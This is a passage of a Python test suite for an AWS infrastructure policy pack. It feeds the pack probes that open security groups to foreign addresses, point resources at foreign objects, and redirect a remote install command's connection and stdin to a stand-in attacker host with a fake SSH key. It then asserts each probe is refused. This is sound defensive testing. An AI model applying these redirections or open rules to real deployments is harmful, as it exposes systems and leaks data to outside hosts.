    ),
    Probe(
        "review22b-low",
        "B18 the database's encryption and deletion protection unknown at preview",
        "s3",
        set_on("harbor-data-db", storageEncrypted=UNKNOWN, deletionProtection=UNKNOWN),
        refused_by="aws-rds-instance-instance",
    ),
]
PROBES += REVIEW22B_PROBES

# H1: the lookups at up trust the harbor-cache:stack tag and the Name beside it, so only the program's own resources
# may carry them, each with its own name (policy/aws_lookups.py the_stack_tag_marks_the_programs_own).
STACK_TAG_PROBES = [
    Probe(
        "h1-stack-tag",
        "a second Elastic IP tagged as the program's harbor-vm-eip of this stack",
        "dev",
        lambda s: [
            made(
                "aws:ec2/eip:Eip",
                "spare-eip",
                {"domain": "vpc", "tags": {"Name": "harbor-vm-eip", "harbor-cache:stack": "dev"}},
                under="HarborVm",
            )
        ],
        refused_by="the-stack-tag-marks-the-programs-own",
    ),
    Probe(
        "h1-stack-tag",
        "the program's instance named as its Elastic IP",
        "dev",
        lambda s: [changed(s, "harbor-vm-instance", lambda p: p["tags"].update(Name="harbor-vm-eip"))],
        refused_by="the-stack-tag-marks-the-programs-own",
    ),
    Probe(
        "h1-stack-tag",
        "the program's Elastic IP tagged as another stack's",
        "dev",
        lambda s: [changed(s, "harbor-vm-eip", lambda p: p["tags"].update({"harbor-cache:stack": "prod"}))],
        refused_by="the-stack-tag-marks-the-programs-own",
    ),
]
PROBES += STACK_TAG_PROBES

# Issue 19 point 6: the load balancer's group admits each node's Elastic IP on 443 (their public path checks,
# components/aws/load_balancer.py node_address_ingress). Only the program's EIPs, from those resources and equal to
# their publicIp: a foreign /32 is refused, alone or inside a node's rule that keeps the EIP as its dependency.
FOREIGN_HOST = "198.51.100.7/32"
PUBLIC_PATH_PROBES = [
    Probe(
        "ha-public-path",
        "a foreign /32 admitted on the load balancer's 443 in a rule of its own",
        "ha",
        lambda s: [changed(s, "harbor-lb-sg", lambda p: p["ingress"].append(tcp(443, FOREIGN_HOST)))],
        refused_by="load-balancer-admits-allowed-cidrs-and-its-nodes",
    ),
    Probe(
        "ha-public-path",
        "a node's 443 rule holding a foreign /32 beside (and instead of) that node's Elastic IP",
        "ha",
        lambda s: [
            changed(
                s,
                "harbor-lb-sg",
                lambda p: [r.update(cidrBlocks=[FOREIGN_HOST]) for r in p["ingress"] if "Elastic IP" in r["description"]],
            )
        ],
        refused_by="load-balancer-admits-allowed-cidrs-and-its-nodes",
    ),
    Probe(
        "ha-public-path",
        "a node's Elastic IP admitted on 80 (the node checks 443 only)",
        "ha",
        lambda s: [
            changed(
                s,
                "harbor-lb-sg",
                lambda p: p["ingress"].append(tcp(80, f"{output_of(s, 'harbor-vm-eip', 'publicIp')}/32")),
            )
        ],
        refused_by="load-balancer-admits-allowed-cidrs-and-its-nodes",
    ),
]
PROBES += PUBLIC_PATH_PROBES


def in_rules_on(port: int, change: Callable[[dict], None]) -> Callable[[dict], None]:
    """`change` applied to each of a group's ingress rules on `port`."""

    def apply(props):
        for rule in props["ingress"]:
            if rule["fromPort"] == port:
                change(rule)

    return apply


def standalone_ingress(kind: str, port: int, block: str) -> Callable[[list[EngineResource]], list[EngineResource]]:
    """A stand-alone ingress rule on the program's VM group, made from it (its id through a property dependency)."""

    def build(stack):
        group = registration_of(stack, "harbor-vm-sg")
        if kind == "aws:ec2/securityGroupRule:SecurityGroupRule":
            shape = {"type": "ingress", "protocol": "tcp", "cidrBlocks": [block]}
        else:
            shape = {"ipProtocol": "tcp", "cidrIpv4": block}
        rule = made(kind, "probe-vm-rule", {**shape, "fromPort": port, "toPort": port, "securityGroupId": group.outputs["id"]})
        rule.property_dependencies = {"securityGroupId": [group.urn]}
        return [rule]

    return build


# Issue 22's residual (docs/security.md): the VM's group had a width check alone, so one foreign address on 443, 80 or
# 22 passed. Its ingress is now exact against the stack's configuration (policy/group_checks.py
# vm_group_admits_exactly_the_settings): a single address beside allowedCidrs or sshAllowedCidrs is refused, inline
# or through a stand-alone rule on the group.
def vm_group_probe(what: str, build: Callable[[list[EngineResource]], list[EngineResource]]) -> Probe:
    return Probe("vm-group-exact", what, "dev", build, refused_by="vm-group-admits-exactly-the-settings")


def vm_group_admits(port: int, rule_change: Callable[[dict], None] | None = None, **rule) -> Callable:
    """The program's VM group with one more ingress rule on `port` (or `rule_change` applied to its rules on it)."""
    change = in_rules_on(port, rule_change) if rule_change else lambda p: p["ingress"].append(tcp(port, **rule))
    return lambda s: [changed(s, "harbor-vm-sg", change)]


VM_GROUP_PROBES = [
    vm_group_probe(
        f"a foreign /32 ({FOREIGN_HOST}) on the VM's 443 in a rule of its own", vm_group_admits(443, cidrBlocks=[FOREIGN_HOST])
    ),
    vm_group_probe(
        "a foreign /32 beside allowedCidrs in the program's own 80 rule",
        vm_group_admits(80, lambda r: r["cidrBlocks"].append(FOREIGN_HOST)),
    ),
    vm_group_probe("a foreign /32 on the VM's 22 (SSH) beside sshAllowedCidrs", vm_group_admits(22, cidrBlocks=[FOREIGN_HOST])),
    vm_group_probe("a foreign IPv6 /128 on the VM's 443", vm_group_admits(443, ipv6CidrBlocks=["2001:db8:66::1/128"])),
    vm_group_probe(
        "metrics 9090 admitted from a /32 where the stack sets no metricsAllowedCidrs",
        vm_group_admits(9090, cidrBlocks=[FOREIGN_HOST]),
    ),
    vm_group_probe(
        "a foreign /32 on 443 added by a stand-alone SecurityGroupRule on the VM's group",
        standalone_ingress("aws:ec2/securityGroupRule:SecurityGroupRule", 443, FOREIGN_HOST),
    ),
    vm_group_probe(
        "a foreign /32 on 22 added by a stand-alone vpc SecurityGroupIngressRule on the VM's group",
        standalone_ingress("aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", 22, FOREIGN_HOST),
    ),
]
PROBES += VM_GROUP_PROBES


def store_probe(what: str, stack: str, build: Callable[[list[EngineResource]], list[EngineResource]]) -> Probe:
    return Probe("vm-store-egress", what, stack, build, refused_by="vm-reaches-only-the-programs-stores")


def client_egress(change: Callable[[list[EngineResource], list], None]) -> Callable[[list[EngineResource]], list[EngineResource]]:
    """The program's stores' client group with `change(stack, egress)` applied to its egress rules."""
    return lambda s: [changed(s, "harbor-data-client-sg", lambda p: change(s, p["egress"]))]


def standalone_rule(stack: list[EngineResource], kind: str, group_name: str, name: str, **props) -> list[EngineResource]:
    """A stand-alone rule of `kind` on the program's group `group_name`, made from it (its id, a property dependency)."""
    group = registration_of(stack, group_name)
    rule = made(kind, name, {**props, "securityGroupId": group.outputs["id"]})
    rule.property_dependencies = {"securityGroupId": [group.urn]}
    return [rule]


def standalone_store_egress(stack: list[EngineResource]) -> list[EngineResource]:
    """A stand-alone vpc egress rule on the VM's group: 5432 to the VPC's block, made from the group."""
    kind = "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule"
    return standalone_rule(
        stack, kind, "harbor-vm-sg", "probe-vm-egress", ipProtocol="tcp", fromPort=5432, toPort=5432, cidrIpv4=VPC_BLOCK
    )


# Issue 22's residual (docs/security.md): the VM let 5432 and 6379 out to the VPC's CIDR, so it reached every database in
# the VPC. It now reaches the stores through their client group, whose egress names the stores' own groups; the pack
# refuses any other way out on those ports from the VM's groups (policy/group_checks.py vm_reaches_only_the_programs_stores).
VPC_BLOCK = FAKE_VPC_CIDR  # the harness's VPC
STORE_EGRESS_PROBES = [
    store_probe(
        "the VM's group lets 5432 and 6379 out to the VPC's block (the program before this change)",
        "s3",
        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["egress"].extend([tcp(5432, VPC_BLOCK), tcp(6379, VPC_BLOCK)]))],
    ),
    store_probe(
        "the client group sends 5432 to the VPC's block beside the database's group",
        "s3",
        client_egress(lambda s, egress: egress.append(tcp(5432, VPC_BLOCK))),
    ),
    store_probe(
        "the client group sends Redis's 6379 to the database's group (the program's, the wrong store)",
        "s3",
        client_egress(
            lambda s, egress: [
                r.update(securityGroups=[output_of(s, "harbor-data-db-sg")]) for r in egress if r["fromPort"] == 6379
            ]
        ),
    ),
    store_probe(
        "the client group lets every protocol out to 10.0.0.0/8",
        "s3",
        client_egress(
            lambda s, egress: egress.append({"protocol": "-1", "fromPort": 0, "toPort": 0, "cidrBlocks": ["10.0.0.0/8"]})
        ),
    ),
    store_probe(
        "the nodes' group lets tcp 5000-6000 (holding 5432) out to the nodes' subnets",
        "ha",
        lambda s: [changed(s, "harbor-vm-sg", lambda p: p["egress"].append({**tcp(5000, "10.0.0.0/16"), "toPort": 6000}))],
    ),
    store_probe("a stand-alone egress rule on the VM's group: 5432 to the VPC's block", "s3", standalone_store_egress),
    Probe(
        "vm-store-egress",
        "the instance in the database's group instead of the stores' client group",
        "s3",
        lambda s: set_on(
            "harbor-vm-instance", vpcSecurityGroupIds=[output_of(s, "harbor-vm-sg"), output_of(s, "harbor-data-db-sg")]
        )(s),
        refused_by="security-groups-are-the-programs",
    ),
]
PROBES += STORE_EGRESS_PROBES


# H1 of review 22b: a reference whose source is replaced in the same update is unknown at the preview, where a literal
# made through `apply` from that source is unknown too and indistinguishable from the program's own; at `up` the
# stack checks run only after the change (deployment_executor.go). So at `up` `Analyze`, before the step, looks the
# referenced object up in AWS (policy/aws_lookups.py): here moto on loopback holds the program's objects as the
# program tags them (tests/standins/moto_stack.py) and the foreign ones the probes name.
ATTACKER_HOST = "203.0.113.66"
ATTACKER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerAttackerAttackerAttackerAttacker"
NEW_HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINewProgramHostKey"


def in_aws(stacks, label: str, aws) -> list[EngineResource]:
    from tests.standins.moto_stack import in_aws as made_in_aws

    return made_in_aws(stacks[label], aws[0])


def after_the_replacement(stack: list[EngineResource], redirected: str, address: str) -> list[EngineResource]:
    """At `up`: the EIP (now at `address`) and the host key replaced, every command connecting to them, but
    `redirected`, whose connection was made with eip.public_ip.apply(lambda _: ATTACKER_HOST) (and the key alike)."""
    result = copy.deepcopy(stack)
    eip, host_key = registration_of(result, "harbor-vm-eip"), registration_of(result, "harbor-vm-host-key")
    eip.outputs["publicIp"], host_key.outputs["public_key"] = address, NEW_HOST_KEY
    for command in (r for r in result if r.type == "command:remote:Command"):
        host, key = (ATTACKER_HOST, ATTACKER_KEY) if command.name == redirected else (address, NEW_HOST_KEY)
        for properties in (command.inputs, command.outputs):
            properties["connection"]["value"].update(host=host, hostKey=key)
    registration_of(result, "harbor-dns-a").outputs["records"] = [address]
    registration_of(result, "harbor-dns-a").inputs["records"] = [address]
    return result


def replacement_eip(aws, stack: list[EngineResource], tags: dict | None = None, instance: str | None = None) -> str:
    """The address of a new Elastic IP in moto, tagged as the program tags its EIP (or with `tags`), associated with
    the stack's instance (or `instance`), as the replaced association leaves it before any command (they depend on it)."""
    from tests.standins.moto_stack import clients, tag_specification

    tags = tags if tags is not None else registration_of(stack, "harbor-vm-eip").inputs["tags"]
    ec2 = clients(aws[0])("ec2")
    made = ec2.allocate_address(Domain="vpc", TagSpecifications=tag_specification("elastic-ip", tags))
    instance = instance or output_of(stack, "harbor-vm-instance")
    ec2.associate_address(AllocationId=made["AllocationId"], InstanceId=instance)
    return made["PublicIp"]


def prod_vm(aws, stack: list[EngineResource]) -> str:
    """Another stack's instance in the account (tagged harbor-cache:stack=prod with the program's Name)."""
    from tests.standins.moto_stack import MOTO_IMAGE, clients, tag_specification

    tags = {**registration_of(stack, "harbor-vm-instance").inputs["tags"], "harbor-cache:stack": "prod"}
    made = clients(aws[0])("ec2").run_instances(
        ImageId=MOTO_IMAGE, MinCount=1, MaxCount=1, TagSpecifications=tag_specification("instance", tags)
    )
    return made["Instances"][0]["InstanceId"]


AT_UP = "references-are-the-stacks-own-at-up"


def test_references_to_a_replaced_source_are_refused_before_the_step_at_up(stacks, aws):
    """B22: the install command sending its stdin to a foreign host with its own pinned key, while the EIP and the VM's
    host key are replaced: the preview passes (the request is the program's own, unknown), and at `up` `Analyze`, the
    only call that runs before the step, refuses it: the host is no Elastic IP of this stack. An EIP of the account
    that is another stack's is refused too; the program's own replacement passes every policy at up."""
    from tests.standins.policy_engine import replaced_at_preview

    stack = in_aws(stacks, "dev", aws)
    preview = replaced_at_preview(stack, ["harbor-vm-eip", "harbor-vm-host-key"])
    command = registration_of(preview, "harbor-install-docker")
    assert command.inputs["connection"]["value"] == UNKNOWN  # the program's and the attacker's alike
    assert registration_of(preview, "harbor-vm-instance").outputs["id"] != UNKNOWN  # a mix: the rest stays known
    with running_pack(dry_run=True) as pack:
        assert [d for d in pack.analyze_all(preview) if d.mandatory] == []
    address = replacement_eip(aws, stack)
    up = after_the_replacement(stack, "harbor-install-docker", address)
    prod = {**registration_of(stack, "harbor-vm-eip").inputs["tags"], "harbor-cache:stack": "prod"}
    elsewhere = after_the_replacement(stack, "harbor-install-docker", address)
    prod_instance = prod_vm(aws, stack)
    for properties in (registration_of(elsewhere, "harbor-install-docker").inputs,):
        properties["connection"]["value"]["host"] = replacement_eip(aws, stack, prod, prod_instance)
    with running_pack(dry_run=False, env=aws[1]) as pack:
        for redirected, why in ((up, "InvalidAddress.NotFound"), (elsewhere, "harbor-cache:stack='prod'")):
            found = [d for d in pack.analyze(registration_of(redirected, "harbor-install-docker")) if d.mandatory]
            assert {d.policy for d in found} == {AT_UP}
            assert why in found[0].message and "connection.host" in found[0].message
        # The program's own replacement passes at up, every policy on (so the refusals above are the literal's).
        assert [d for d in pack.analyze_all(after_the_replacement(stack, "", address)) if d.mandatory] == []


def test_a_profile_reference_to_a_replaced_profile_is_refused_before_the_step_at_up(stacks, aws):
    """B23: the instance profile replaced, the instance's profile profile.name.apply(lambda _: "admin-profile"): the
    preview passes; at `up` `Analyze` of the instance refuses it (a pre-existing profile, and another stack's)."""
    from tests.standins.moto_stack import clients, tag_list
    from tests.standins.policy_engine import replaced_at_preview

    stack = in_aws(stacks, "dev", aws)
    preview = replaced_at_preview(stack, ["harbor-vm-profile"])
    assert registration_of(preview, "harbor-vm-instance").inputs["iamInstanceProfile"] == UNKNOWN
    with running_pack(dry_run=True) as pack:
        assert [d for d in pack.analyze_all(preview) if d.mandatory] == []
    iam = clients(aws[0])("iam")
    iam.create_role(RoleName="admin", AssumeRolePolicyDocument=trust({"Service": "ec2.amazonaws.com"}))
    iam.create_instance_profile(InstanceProfileName="admin-profile")
    iam.add_role_to_instance_profile(InstanceProfileName="admin-profile", RoleName="admin")
    prod = {**registration_of(stack, "harbor-vm-profile").inputs["tags"], "harbor-cache:stack": "prod"}
    iam.create_instance_profile(InstanceProfileName="prod-profile", Path="/harbor-cache/", Tags=tag_list(prod))
    iam.add_role_to_instance_profile(InstanceProfileName="prod-profile", RoleName="admin")
    with running_pack(dry_run=False, env=aws[1]) as pack:
        for profile in ("admin-profile", "prod-profile"):
            instance = changed(stack, "harbor-vm-instance", lambda p, profile=profile: p.update(iamInstanceProfile=profile))
            assert {d.policy for d in pack.analyze(instance) if d.mandatory} == {AT_UP}
        assert [d for d in pack.analyze(registration_of(stack, "harbor-vm-instance")) if d.mandatory] == []


@dataclass
class UpProbe:
    """A reference a pull request could set to a literal while its source is replaced (so the preview cannot see it):
    at `up`, with the program's objects and the foreign ones in AWS, `Analyze` alone must refuse it."""

    what: str
    stack: str
    build: Callable[[list[EngineResource], dict[str, str]], list[EngineResource]]


def foreign_objects(endpoint: str, stack: list[EngineResource]) -> dict[str, str]:
    """What else the account holds: pre-existing objects (no tags) and another stack's (tagged harbor-cache:stack=prod
    with the program's own Names, as a second stack of the program in the account tags them)."""
    from tests.standins.moto_stack import (
        MOTO_IMAGE,
        PROGRAM_IMAGE_NAME,
        REGION,
        clients,
        ed25519_public_key,
        tag_list,
        tag_specification,
    )

    client = clients(endpoint)
    ec2, iam = client("ec2"), client("iam")

    def prod(name: str) -> dict[str, str]:
        return {**registration_of(stack, name).inputs["tags"], "harbor-cache:stack": "prod"}

    found = {
        "group": ec2.create_security_group(GroupName="launch-wizard-1", Description="pre-existing")["GroupId"],
        "instance": ec2.run_instances(ImageId=MOTO_IMAGE, MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"],
        "volume": ec2.create_volume(AvailabilityZone=f"{REGION}a", Size=20)["VolumeId"],
        "topic": client("sns").create_topic(Name="collect")["TopicArn"],
        # An image of the account named as Canonical names its Ubuntu images (RegisterImage: the caller owns it).
        "own_image": ec2.register_image(Name=PROGRAM_IMAGE_NAME.replace("20261101", "20261201"))["ImageId"],
        # Images moto ships (moto/ec2/resources/amis.json): Amazon's Windows Server, Canonical's Ubuntu 14.04.
        "amazon_image": MOTO_IMAGE,
        "canonical_trusty": "ami-1e749f67",
    }
    address = ec2.allocate_address(Domain="vpc", TagSpecifications=tag_specification("elastic-ip", prod("harbor-vm-eip")))
    found.update(allocation=address["AllocationId"], address=address["PublicIp"])
    ec2.import_key_pair(KeyName="operator-key", PublicKeyMaterial=ed25519_public_key().encode())
    role = registration_of(stack, "harbor-vm-role")
    iam.create_role(
        RoleName="harbor-vm-role-prod",
        Path="/harbor-cache/",
        AssumeRolePolicyDocument=role.inputs["assumeRolePolicy"],
        Tags=tag_list(prod("harbor-vm-role")),
    )
    s3 = client("s3")
    s3.create_bucket(Bucket=OTHER_BUCKET.removeprefix("arn:aws:s3:::"), CreateBucketConfiguration={"LocationConstraint": REGION})
    s3.put_bucket_tagging(Bucket=OTHER_BUCKET.removeprefix("arn:aws:s3:::"), Tagging={"TagSet": tag_list({"Name": "x"})})
    if any(r.name == "harbor-lb-nodes" for r in stack):
        vpc = ec2.describe_vpcs()["Vpcs"][0]["VpcId"]
        tg = client("elbv2").create_target_group(Name="elsewhere", Protocol="HTTP", Port=80, VpcId=vpc)
        found["target_group"] = tg["TargetGroups"][0]["TargetGroupArn"]
        found["certificate"] = client("acm").request_certificate(DomainName="harbor.dev.example.com")["CertificateArn"]
        subnets = [subnet["SubnetId"] for subnet in ec2.describe_subnets()["Subnets"]][:2]
        balancer = client("elbv2").create_load_balancer(Name="elsewhere", Subnets=subnets)["LoadBalancers"][0]
        found["load_balancer"] = balancer["DNSName"]
    return found


def _set(name: str, kind: str = "", **values: Callable[[dict[str, str]], object]):
    """The program's `name` with each field set to a value read from the foreign objects (its dependencies kept)."""
    return lambda stack, foreign: [
        changed(stack, name, lambda p: p.update({key: value(foreign) for key, value in values.items()}), kind)
    ]


def _listener_to(foreign_key: str, field: str):
    def change(stack, foreign):
        def update(p):
            if field == "certificateArn":
                p["certificateArn"] = foreign[foreign_key]
            else:
                p["defaultActions"][0]["targetGroupArn"] = foreign[foreign_key]

        return [changed(stack, "harbor-lb-https", update)]

    return change


def _registry_grant_on_another_stacks_bucket(stack, foreign):
    def update(p):
        p["policy"] = p["policy"].replace(output_of(stack, "harbor-storage-bucket", "bucket"), OTHER_BUCKET.split(":::")[1])

    return [changed(stack, "harbor-storage-registry-access", update)]


def _reporter_on_another_topic(stack, foreign):
    topic = output_of(stack, "harbor-alarms-topic", "arn")
    return [changed(stack, "harbor-alarms-put-metrics", lambda p: p.update(policy=p["policy"].replace(topic, foreign["topic"])))]


def _rule_from(stack, foreign):
    return [changed(stack, "harbor-data-db-sg", lambda p: [r.update(securityGroups=[foreign["group"]]) for r in p["ingress"]])]


UP_TIME_PROBES = [
    UpProbe(
        "the alarm e-mail subscribed to a topic of the account", "mail", _set("harbor-alarms-email", topic=lambda f: f["topic"])
    ),
    # Review 22c F2: the image the VM boots (its owner controls the OS that gets the install commands' stdin).
    UpProbe(
        "the VM boots an image of the account named as Ubuntu's", "dev", _set("harbor-vm-instance", ami=lambda f: f["own_image"])
    ),
    UpProbe("the VM boots Amazon's Windows image", "dev", _set("harbor-vm-instance", ami=lambda f: f["amazon_image"])),
    UpProbe("the VM boots Canonical's Ubuntu 14.04", "dev", _set("harbor-vm-instance", ami=lambda f: f["canonical_trusty"])),
    UpProbe("a node boots an image of the account", "ha", _set("harbor-vm-1-instance", ami=lambda f: f["own_image"])),
    UpProbe("an instance in a pre-existing group", "dev", _set("harbor-vm-instance", vpcSecurityGroupIds=lambda f: [f["group"]])),
    UpProbe("the instance's key pair a pre-existing one", "dev", _set("harbor-vm-instance", keyName=lambda f: "operator-key")),
    UpProbe(
        "the data volume attached to another instance",
        "dev",
        _set("harbor-vm-data-attachment", instanceId=lambda f: f["instance"]),
    ),
    UpProbe("another volume attached to the VM", "dev", _set("harbor-vm-data-attachment", volumeId=lambda f: f["volume"])),
    UpProbe(
        "another stack's Elastic IP associated", "dev", _set("harbor-vm-eip-association", allocationId=lambda f: f["allocation"])
    ),
    UpProbe(
        "the EIP associated with another instance", "dev", _set("harbor-vm-eip-association", instanceId=lambda f: f["instance"])
    ),
    UpProbe(
        "the host key read from another instance's console",
        "dev",
        _set("harbor-vm-host-key", instance_id=lambda f: f["instance"]),
    ),
    UpProbe("the cache's name on another stack's Elastic IP", "dev", _set("harbor-dns-a", records=lambda f: [f["address"]])),
    UpProbe("alarms notify a topic of the account", "dev", _set("harbor-alarms-root-disk", alarmActions=lambda f: [f["topic"]])),
    UpProbe(
        "alarms notify a topic of another account", "dev", _set("harbor-alarms-root-disk", alarmActions=lambda f: [FOREIGN_TOPIC])
    ),
    UpProbe(
        "the backup watch notifies another topic",
        "dev",
        _set("harbor-backup-watch-dlm-error", "aws:cloudwatch/eventTarget:EventTarget", arn=lambda f: f["topic"]),
    ),
    UpProbe(
        "the instance profile holding another stack's role",
        "dev",
        _set("harbor-vm-profile", role=lambda f: "harbor-vm-role-prod"),
    ),
    UpProbe("the DNS-01 grant on another stack's role", "dev", _set("harbor-dns-dns01", role=lambda f: "harbor-vm-role-prod")),
    UpProbe(
        "the DLM service policy on the instance role",
        "dev",
        _set("harbor-vm-dlm-policy", role=lambda f: autoname("harbor-vm-role")),
    ),
    UpProbe("the stores' events to a topic of the account", "s3", _set("harbor-data-db-events", snsTopic=lambda f: f["topic"])),
    UpProbe("the database in a pre-existing group", "s3", _set("harbor-data-db", vpcSecurityGroupIds=lambda f: [f["group"]])),
    UpProbe("the database's group admitting a pre-existing group", "s3", _rule_from),
    UpProbe("the registry's grant on another stack's bucket", "s3", _registry_grant_on_another_stacks_bucket),
    *(
        UpProbe(f"{name} on another bucket of the account", "s3", _set(name, bucket=lambda f: OTHER_BUCKET.split(":::")[1]))
        for name in BUCKET_SETTING_NAMES
    ),
    UpProbe("the reporter lists the subscribers of a topic of the account", "dev", _reporter_on_another_topic),
    UpProbe("the listener forwards to another target group", "ha", _listener_to("target_group", "targetGroupArn")),
    UpProbe("the listener serves a certificate not the program's", "ha", _listener_to("certificate", "certificateArn")),
    UpProbe(
        "the certificate validation of another certificate",
        "ha",
        _set("harbor-lb-certificate-issued", certificateArn=lambda f: f["certificate"]),
    ),
    UpProbe(
        "the cache's name aliasing another load balancer",
        "ha",
        lambda stack, f: [changed(stack, "harbor-dns-a", lambda p: p["aliases"][0].update(name=f["load_balancer"]))],
    ),
    UpProbe(
        "another stack's Elastic IP admitted on the load balancer's 443",
        "ha",
        lambda stack, f: [changed(stack, "harbor-lb-sg", lambda p: p["ingress"].append(tcp(443, f"{f['address']}/32")))],
    ),
    UpProbe("the load balancer in a pre-existing group", "ha", _set("harbor-lb-alb", securityGroups=lambda f: [f["group"]])),
    UpProbe(
        "another instance registered in the target group", "ha", _set("harbor-vm-1-target", targetId=lambda f: f["instance"])
    ),
    UpProbe(
        "a node drained from another target group",
        "ha",
        _set("harbor-install-leave", target_group_arn=lambda f: f["target_group"]),
    ),
]


@pytest.mark.parametrize("label", ["dev", "s3", "ha", "mail"])
def test_every_up_time_probe_is_refused_before_the_step(stacks, aws, label):
    """The rest of H1's class: each reference set to a foreign object, as it would be where its source is replaced, is
    refused by `Analyze` at up, before the step (the stack checks alone would report it after the change); the same
    stack without the probe passes every policy at up."""
    stack = in_aws(stacks, label, aws)
    foreign = foreign_objects(aws[0], stack)
    passed = []
    with running_pack(dry_run=False, env=aws[1], config=stack_config(label)) as pack:
        assert [d for d in pack.analyze_all(stack) if d.mandatory] == []
        for probe in (p for p in UP_TIME_PROBES if p.stack == label):
            found = [d for r in probe.build(stack, foreign) for d in pack.analyze(r) if d.mandatory]
            if AT_UP not in {d.policy for d in found}:
                passed.append(f"{probe.what}: {sorted({d.policy for d in found})}")
    assert passed == []


def test_the_aws_lookups_are_on_by_default_fail_closed_and_the_deploy_never_turns_them_off(stacks, tmp_path):
    """The lookups are a mandatory policy that only a policy pack config could disable; the workflows pass none. Without
    credentials (or any other lookup error) the reference is refused, naming the field, the value and the fix."""
    from google.protobuf import empty_pb2
    from pulumi.runtime.proto import analyzer_pb2

    from tests.paths import ROOT

    workflows = "\n".join(path.read_text() for path in (ROOT / ".github" / "workflows").glob("*.y*ml"))
    assert "policyPackConfig" not in workflows and "policy-pack-config" not in workflows and AT_UP not in workflows
    # No credential anywhere botocore looks (its provider chain: environment, web identity, files, container, instance
    # metadata), so nothing is asked of any host.
    unset = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_PROFILE", "AWS_ROLE_ARN")
    unset += ("AWS_CONTAINER_CREDENTIALS_FULL_URI", "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "AWS_WEB_IDENTITY_TOKEN_FILE")
    no_credentials = {
        **dict.fromkeys(unset),
        "AWS_CONFIG_FILE": str(tmp_path / "none"),
        "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "none"),
        "AWS_EC2_METADATA_DISABLED": "true",  # no instance metadata lookup either
    }
    with running_pack(dry_run=False, env=no_credentials) as pack:
        (policy,) = [p for p in pack.stub.GetAnalyzerInfo(empty_pb2.Empty()).policies if p.name == AT_UP]
        assert policy.enforcementLevel == analyzer_pb2.MANDATORY
        found = [d for d in pack.analyze(registration_of(stacks["dev"], "harbor-vm-instance")) if d.mandatory]
        assert {d.policy for d in found} == {AT_UP}
        profile = output_of(stacks["dev"], "harbor-vm-profile", "name")
        assert any(
            "iamInstanceProfile" in d.message and profile in d.message and "NoCredentialsError" in d.message for d in found
        )
        assert all("deploy role" in d.message for d in found)
    with running_pack(dry_run=True, env=no_credentials) as pack:  # a preview never looks anything up
        assert [d for d in pack.analyze_all(stacks["dev"]) if d.mandatory] == []


def test_the_settings_allowances_are_the_packs(stacks):
    """The pack reads the allowances the settings grant from the stack's configuration (the engine hands it
    PULUMI_CONFIG): a credentialed public project where the upstream sets allowCredentialedPublic, and world egress on
    an upstream's own port where it sets allowCustomPortEgress, pass; without them both are refused (the probes)."""
    stack = stacks["dev"]
    (registry,) = credentialed_public_project(stack)
    allowed = {"name": registry.inputs["name"], "type": registry.inputs["type"], "url": registry.inputs["url"]}
    config = {**dev_config(), "harbor-cache:upstreams": [{**allowed, "allowCredentialedPublic": True}]}
    with running_pack(dry_run=False, config=config, disabled=WITHOUT_AWS_LOOKUPS) as pack:
        assert [d for d in pack.analyze_stack(with_probe(stack, [registry])) if d.mandatory] == []
    custom = {
        **dev_config(),
        "harbor-cache:upstreams": [
            {
                "name": "internal",
                "type": "docker-registry",
                "url": "https://registry.cache-fixture.net:5000",
                "allowCustomPortEgress": True,
            }
        ],
    }
    program = engine_resources(run_program(custom))
    assert any(rule["fromPort"] == 5000 for rule in registration_of(program, "harbor-vm-sg").inputs["egress"])
    with running_pack(dry_run=False, config=custom, disabled=WITHOUT_AWS_LOOKUPS) as pack:
        assert [d for d in pack.analyze_all(program) if d.mandatory] == []
    with running_pack(dry_run=False, disabled=WITHOUT_AWS_LOOKUPS) as pack:  # the dev stack's configuration: no such upstream
        assert "aws-ec2-securitygroup-securitygroup" in {d.policy for d in pack.analyze_all(program) if d.mandatory}


def test_the_programs_stacks_pass_the_vm_groups_exact_check_and_a_foreign_address_does_not(stacks):
    """Each of the program's stacks (one VM, s3 with the stores, HA behind the load balancer), judged against its own
    configuration as the engine hands it, passes every policy, at up and at a fresh preview; on each, a foreign /32 on
    22 of the VM's (nodes') group is refused by the exact check; on the nodes' group a second group on 8080, and 443
    from allowedCidrs (which only one VM admits), are refused too."""
    policy = "vm-group-admits-exactly-the-settings"
    for label in ("dev", "s3", "ha"):
        fresh = engine_resources(run_program(stack_config(label), fresh_preview=True))
        for dry_run, stack in ((False, stacks[label]), (True, fresh)):
            with running_pack(dry_run=dry_run, config=stack_config(label), disabled=WITHOUT_AWS_LOOKUPS) as pack:
                assert pack.analyze_all(stack) == [], label
                foreign = changed(stack, "harbor-vm-sg", lambda p: p["ingress"].append(tcp(22, FOREIGN_HOST)))
                assert policy in {d.policy for d in pack.analyze_stack(with_probe(stack, [foreign])) if d.mandatory}, label
    ha = stacks["ha"]
    lb_group = registration_of(ha, "harbor-lb-sg")
    with running_pack(dry_run=False, config=stack_config("ha"), disabled=WITHOUT_AWS_LOOKUPS) as pack:
        db_group = output_of(ha, "harbor-data-db-sg")
        second = changed(ha, "harbor-vm-sg", in_rules_on(8080, lambda r: r["securityGroups"].append(db_group)))
        assert policy in {d.policy for d in pack.analyze_stack(with_probe(ha, [second])) if d.mandatory}
        allowed = dev_config()["harbor-cache:allowedCidrs"]
        web = changed(ha, "harbor-vm-sg", lambda p: p["ingress"].append(tcp(443, *allowed)))
        assert policy in {d.policy for d in pack.analyze_stack(with_probe(ha, [web])) if d.mandatory}
        assert lb_group.outputs["id"] in str(registration_of(ha, "harbor-vm-sg").inputs["ingress"])
    # The dev stack judged against the HA stack's configuration (replicas: 2) is not what that configuration makes.
    with running_pack(dry_run=False, config=stack_config("ha"), disabled=WITHOUT_AWS_LOOKUPS) as pack:
        assert policy in {d.policy for d in pack.analyze_stack(stacks["dev"]) if d.mandatory}


def test_an_existing_stores_stack_previews_its_client_group_clean():
    """The first preview of an existing stack with the stores after the client group came: the group is created in
    that update, so its id (and the instances' reference to it) is unknown, the rest known; the pack lets it through."""
    for label in ("s3", "ha"):
